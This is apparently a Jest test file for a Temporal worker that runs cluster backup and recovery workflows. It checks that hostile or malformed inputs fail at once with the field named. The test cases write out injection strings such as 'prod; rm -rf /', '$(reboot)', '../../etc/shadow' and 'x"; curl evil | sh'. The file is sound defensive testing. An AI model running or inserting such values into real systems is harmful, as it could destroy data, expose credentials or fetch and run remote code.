import { WorkflowFailedError } from '@temporalio/client';
import { temporal } from '@temporalio/proto';
import { startTestWorker, type RunningWorker } from '../support/worker';
import { rawPayload, startRaw } from '../support/raw-payloads';

const EventType = temporal.api.enums.v1.EventType;

/**
 * Every workflow the worker registers, started the way the Temporal UI's start form does (by type name, with
 * whatever JSON was typed): a hostile or malformed value must FAIL the run at once with the field named — never
 * wedge it RUNNING by failing its workflow task forever — and no activity may have been scheduled.
 */
const NUL = 'prod\u0000x';
const CASES: { workflow: string; input: unknown; field: RegExp }[] = [
  { workflow: 'backupCluster', input: { cluster: 'prod; rm -rf /' }, field: /cluster: / },
  { workflow: 'backupCluster', input: { cluster: 'prod', reason: 'r'.repeat(200_000) }, field: /reason: / },
  { workflow: 'checkCluster', input: { cluster: '$(reboot)' }, field: /cluster: / },
  { workflow: 'checkCluster', input: { cluster: 'prod', extra: 1 }, field: /input: unknown field "extra"/ },
  { workflow: 'checkClusterHealth', input: { cluster: 'prod', node: 'cp1\nid' }, field: /node: / },
  { workflow: 'checkClusterHealth', input: { cluster: 'prod', timeoutSeconds: '10' }, field: /timeoutSeconds: / },
  { workflow: 'checkClusterHealth', input: { cluster: 'prod', command: 'id' }, field: /input: unknown field "command"/ },
  { workflow: 'recoverCluster', input: { cluster: 'prod', snapshot: '../../etc/shadow' }, field: /snapshot: / },
  { workflow: 'recoverCluster', input: { cluster: NUL }, field: /cluster: / },
  {
    workflow: 'respondToAlert',
    input: { cluster: 'prod', alert: { name: "it's", status: 'firing', fingerprint: 'f' } },
    field: /alert\.name: /,
  },
  { workflow: 'drillRestore', input: { cluster: 'prod', snapshot: 'a/../b' }, field: /snapshot: / },
  { workflow: 'drillRestore', input: 42, field: /input: expected an object/ },
  { workflow: 'importBackup', input: { cluster: 'prod', key: 'x"; curl evil | sh' }, field: /key: / },
  { workflow: 'importBackup', input: { cluster: 'prod', key: 'k'.repeat(200_000) }, field: /key: / },
  { workflow: 'importBackup', input: { cluster: 'prod', key: 'a/b', staged: 'yes' }, field: /staged: / },
  // Unknown fields inside a nested object, and a 1 MB one, are refused like those at the top.
  {
    workflow: 'respondToAlert',
    input: { cluster: 'prod', alert: { name: 'KubeAPIDown', status: 'firing', fingerprint: 'f', runbook: 'https://x' } },
    field: /alert: unknown field "runbook" \(remove it;/,
  },
  {
    workflow: 'respondToAlert',
    input: { cluster: 'prod', alert: { name: 'KubeAPIDown', status: 'firing', fingerprint: 'f', blob: 'x'.repeat(1_000_000) } },
    field: /alert: too large/,
  },
  { workflow: 'recoverCluster', input: { cluster: 'prod', blob: 'x'.repeat(1_000_000) }, field: /blob: too large/ },
  // No object at all (the start form's input left as `null`): every workflow, before its labels or its first step.
  ...['backupCluster', 'checkCluster', 'checkClusterHealth', 'recoverCluster', 'respondToAlert', 'drillRestore', 'importBackup'].map(
    (workflow) => ({ workflow, input: null, field: /input: expected an object/ }),
  ),
];

describe('hostile workflow inputs started through the client (as the UI start form does)', () => {
  let worker: RunningWorker;
  beforeAll(async () => {
    worker = await startTestWorker([]);
  });
  afterAll(async () => {
    await worker?.stop();
  });

  it.each(CASES.map((c) => [c.workflow, JSON.stringify(c.input).slice(0, 60), c] as const))(
    '%s %s fails naming the field, with no activity scheduled',
    async (_w, _i, c) => {
      const workflowId = `hostile-${c.workflow}-${Date.now()}-${Math.random().toString(36).slice(2, 6)}`;
      const handle = await worker.client.workflow.start(c.workflow, {
        taskQueue: worker.taskQueue,
        workflowId,
        args: [c.input],
        workflowExecutionTimeout: '2 minutes',
      });
      const err = await handle.result().then(
        () => undefined,
        (e: unknown) => e,
      );
      expect(err).toBeInstanceOf(WorkflowFailedError);
      const cause = (err as WorkflowFailedError).cause as { type?: string; message: string };
      expect(cause.type).toBe('InvalidInput');
      expect(cause.message).toMatch(c.field);
      // Not echoed back whole: a 200 KB value does not end up in the failure.
      expect(cause.message.length).toBeLessThan(2_000);
      const d = await handle.describe();
      expect(d.status.name).toBe('FAILED');
      const events = (await handle.fetchHistory()).events ?? [];
      expect(events.filter((e) => e.eventType === EventType.EVENT_TYPE_ACTIVITY_TASK_SCHEDULED)).toEqual([]);
      // One workflow task, completed: the failure is the run's, not a workflow task failing (and retrying) forever.
      expect(events.filter((e) => e.eventType === EventType.EVENT_TYPE_WORKFLOW_TASK_FAILED)).toEqual([]);
    },
  );

  /**
   * Payloads the SDK's client never writes but `temporal workflow start --input-meta encoding=...`, the raw gRPC API or
   * a buggy script can: the SDK failed to decode them before any workflow code ran, the workflow task failed and was
   * retried forever, the run stayed RUNNING. Now the run fails at once, saying what was wrong.
   */
  const RAW: { workflow: string; payload: ReturnType<typeof rawPayload>; message: RegExp }[] = [
    {
      workflow: 'recoverCluster',
      payload: rawPayload('{"cluster": "prod",'),
      message: /^invalid recovery input: input: not valid JSON \(json\/plain: .*\); send a JSON object like \{"cluster": "prod"\}$/,
    },
    { workflow: 'backupCluster', payload: rawPayload('prod'), message: /input: not valid JSON \(json\/plain: / },
    { workflow: 'respondToAlert', payload: rawPayload(`{"cluster": "${'x'.repeat(1_000_000)}`), message: /input: not valid JSON/ },
    {
      workflow: 'checkClusterHealth',
      payload: rawPayload(new Uint8Array([1, 2]), 'json/protobuf'),
      message: /input: not valid JSON \(json\/protobuf: Unknown encoding: json\/protobuf\)/,
    },
    { workflow: 'drillRestore', payload: rawPayload(new Uint8Array([123, 125]), 'binary/plain'), message: /input: expected an object/ },
  ];

  it.each(RAW.map((c) => [c.workflow, c.payload.metadata!.encoding.toString(), c] as const))(
    '%s with a %s payload that is not a JSON object fails at once, naming it',
    async (_w, _e, c) => {
      const workflowId = `raw-${c.workflow}-${Date.now()}-${Math.random().toString(36).slice(2, 6)}`;
      const started = Date.now();
      await startRaw(worker.client, { workflowType: c.workflow, workflowId, taskQueue: worker.taskQueue, input: [c.payload] });
      const handle = worker.client.workflow.getHandle(workflowId);
      // Within seconds: a run whose workflow task fails is RUNNING until its 2-minute timeout.
      let timer: NodeJS.Timeout | undefined;
      const err = await Promise.race([
        handle.result().then(
          () => 'completed',
          (e: unknown) => e,
        ),
        new Promise((res) => (timer = setTimeout(() => res('still RUNNING after 20 s'), 20_000))),
      ]).finally(() => clearTimeout(timer));
      expect(Date.now() - started).toBeLessThan(20_000);
      expect(err).toBeInstanceOf(WorkflowFailedError);
      const cause = (err as WorkflowFailedError).cause as { type?: string; message: string };
      expect(cause.type).toBe('InvalidInput');
      expect(cause.message).toMatch(c.message);
      expect(cause.message.length).toBeLessThan(600);
      expect((await handle.describe()).status.name).toBe('FAILED');
      const events = (await handle.fetchHistory()).events ?? [];
      expect(events.filter((e) => e.eventType === EventType.EVENT_TYPE_WORKFLOW_TASK_FAILED)).toEqual([]);
      expect(events.filter((e) => e.eventType === EventType.EVENT_TYPE_ACTIVITY_TASK_SCHEDULED)).toEqual([]);
    },
  );
});
